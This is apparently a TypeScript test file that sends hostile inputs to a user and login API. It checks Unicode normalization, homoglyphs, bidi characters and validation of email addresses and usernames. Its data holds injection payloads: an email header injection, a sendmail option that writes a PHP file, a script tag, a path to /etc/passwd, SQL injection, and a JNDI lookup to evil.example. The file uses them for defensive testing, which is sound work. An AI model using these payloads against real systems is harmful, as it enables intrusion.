import { forgot, type HostileCase, post } from '../case.ts'

const USERS = '/api/v1/users'
const ME = `${USERS}/me`
const OTHER = `${USERS}/{{other.id}}`

/** Composed (NFC) and decomposed (NFD), which look the same. */
const COMPOSED = 'renee@b\u00fccher.example'
const DECOMPOSED = 'renee@bu\u0308cher.example'

/** The form that is kept. */
const CANONICAL = 'renee@xn--bcher-kva.example'

/** JSON with an escape that `JSON.stringify` would not write. */
const escaped = (property: string, text: string) => `{"${property}":"${text}"}`

const unstorable: [name: string, text: string][] = [
  ['NUL', 'a\\u0000b'],
  ['NUL and nothing else', '\\u0000'],
  ['a high surrogate alone', '\\ud800'],
  ['a low surrogate alone', '\\uDFFF'],
  ['surrogates the wrong way round', '\\udc00\\ud83d'],
  ['half of an emoji', 'a\\ud83d'],
]

const badEmails: [name: string, email: string][] = [
  ['a fullwidth @', 'ada\uff20example.com'],
  ['a small @', 'ada\ufe6bexample.com'],
  ['two @', 'ada@evil.example@example.com'],
  ['a right-to-left override', 'ada\u202emoc.elpmaxe@example.com'],
  ['a right-to-left mark', '\u200fada@example.com'],
  ['a zero-width space', 'a\u200bda@example.com'],
  ['a zero-width joiner', 'a\u200dda@example.com'],
  ['a byte order mark', '\ufeffada@example.com'],
  ['a soft hyphen', 'a\u00adda@example.com'],
  ['a no-break space', 'ada\u00a0@example.com'],
  ['a space at the end', 'ada@example.com '],
  ['a line break and a header', 'ada@example.com\r\nBcc: evil@evil.example'],
  ['a line separator', 'ada@example.com\u2028'],
  ['a tab', 'ada\t@example.com'],
  ['a list', 'ada@example.com,evil@evil.example'],
  ['a list of the other kind', 'ada@example.com;evil@evil.example'],
  ['a display name', 'Ada <ada@example.com>'],
  ['a comment', 'ada(comment)@example.com'],
  ['quotes', '"ada"@example.com'],
  ['an IP address', 'ada@[127.0.0.1]'],
  ['an IP address without brackets', 'ada@127.0.0.1'],
  ['no dot', 'ada@localhost'],
  ['an option of sendmail', '-oQ/tmp -X/tmp/x.php@example.com'],
  ['markup', '<script>alert(1)</script>@example.com'],
  ['an emoji', '\u{1f600}@example.com'],
  ['characters that were given nothing yet', 'a\u{e0041}@example.com'],
  ['a way up', '../../etc/passwd'],
  ['255 characters', `${'a'.repeat(60)}@${'b.'.repeat(95)}abcd`],
]

const badUsernames: [name: string, username: string][] = [
  ['a homoglyph', '\u0430da'],
  ['fullwidth letters', '\uff41\uff44\uff41'],
  ['a right-to-left override', 'ada\u202egnp'],
  ['a zero-width space', 'a\u200bda'],
  ['a combining mark', 'ada\u0301'],
  ['a space at its end', 'ada '],
  ['a line break', 'ada\nroot'],
  ['markup', '<b>ada</b>'],
  ['a dotless i', 'adm\u0131n'],
  ['a way up', '../ada'],
  ['nothing but dots', '...'],
  ['an emoji', 'ada\u{1f600}'],
]

/** Valid passwords: any characters at all. */
const passwords = [
  ' '.repeat(128),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(20),
  '\u202e\u200f\u061c\ufeff\u2028\u2029\u0085\u00a0',
  'e\u0301'.repeat(128),
  '\u{10ffff}'.repeat(128),
  "' OR '1'='1' --",
  `$\{jndi:ldap://evil.example/a}{{7*7}}<%= 7*7 %>`,
]

export const cases: readonly HostileCase[] = [
  ...unstorable.flatMap(([name, text]): HostileCase[] => [
    {
      name: `${name} in an address`,
      send: forgot(escaped('email', text)),
      status: 400,
      code: 'invalid_text',
    },
    { name: `${name} in a name`, send: forgot(`{"${text}":1}`), status: 400, code: 'invalid_text' },
    {
      name: `${name} in a password`,
      send: {
        ...forgot(`{"email":"ada@example.com","password":"${text}"}`),
        path: '/api/v1/auth/login',
      },
      status: 400,
      code: 'invalid_text',
    },
  ]),
  ...badEmails.map(([name, email]): HostileCase => {
    const send = forgot(JSON.stringify({ email }))
    const title = `an address with ${name}`
    return {
      name: title,
      send,
      status: 400,
      code: 'validation_failed',
      pointers: ['/body/email'],
      absent: [email],
    }
  }),
  ...badUsernames.map(([name, username]): HostileCase => {
    const send = post(ME, { username }, { method: 'PATCH', as: 'user' })
    const pointers = ['/body/username']
    return { name: `a username with ${name}`, send, status: 400, code: 'validation_failed', pointers }
  }),
  ...passwords.map((password): HostileCase => {
    const send = post('/api/v1/auth/login', { email: 'ada@example.com', password })
    const name = `the password ${JSON.stringify(password.slice(0, 12))}... is only wrong`
    return { name, send, status: 401, code: 'invalid_credentials', absent: [password] }
  }),
  {
    name: 'a password of 129 characters',
    send: post('/api/v1/auth/login', { email: 'ada@example.com', password: '\u{1f600}'.repeat(129) }),
    status: 400,
    code: 'validation_failed',
    pointers: ['/body/password'],
  },
  {
    name: 'an address that is composed',
    send: post(OTHER, { email: COMPOSED }, { method: 'PATCH', as: 'admin' }),
    status: 200,
    body: { email: CANONICAL },
  },
  {
    name: 'is the same when it is decomposed: it changes nothing',
    send: post(OTHER, { email: DECOMPOSED }, { method: 'PATCH', as: 'admin' }),
    status: 200,
    body: { email: CANONICAL },
  },
  {
    name: 'and it is taken, for anybody else',
    send: post(`${USERS}/invitations`, { email: DECOMPOSED, username: 'renee' }, { as: 'admin' }),
    status: 409,
    code: 'email_taken',
  },
  {
    name: 'in capitals, too',
    send: post(
      `${USERS}/invitations`,
      { email: 'RENEE@BU\u0308CHER.EXAMPLE', username: 'renee' },
      { as: 'admin' },
    ),
    status: 409,
    code: 'email_taken',
  },
  {
    name: 'it is found by either',
    send: { path: `${USERS}?q=${encodeURIComponent(DECOMPOSED)}`, as: 'admin' },
    status: 200,
    body: { data: [{ id: '{{other.id}}' }] },
  },
  {
    name: 'it signs in by either',
    send: post('/api/v1/auth/login', { email: DECOMPOSED, password: '{{other.password}}' }),
    status: 200,
    body: { user: { id: '{{other.id}}' } },
  },
  {
    name: 'a letter that looks like another is another',
    send: post('/api/v1/auth/login', { email: '\u0430da@example.com', password: '{{user.password}}' }),
    status: 401,
    code: 'invalid_credentials',
  },
  {
    name: 'fullwidth letters are others',
    send: post('/api/v1/auth/login', { email: '\uff41da@example.com', password: '{{user.password}}' }),
    status: 401,
    code: 'invalid_credentials',
  },
  {
    name: 'a username in other capitals is taken',
    send: post(OTHER, { username: 'ADA' }, { method: 'PATCH', as: 'admin' }),
    status: 409,
    code: 'username_taken',
  },
  {
    name: 'a search for marks and signs of direction finds nothing',
    send: { path: `${USERS}?q=%e2%80%ae%e2%80%8b%ef%bb%bf`, as: 'admin' },
    status: 200,
    body: { data: [], next_cursor: null },
  },
]
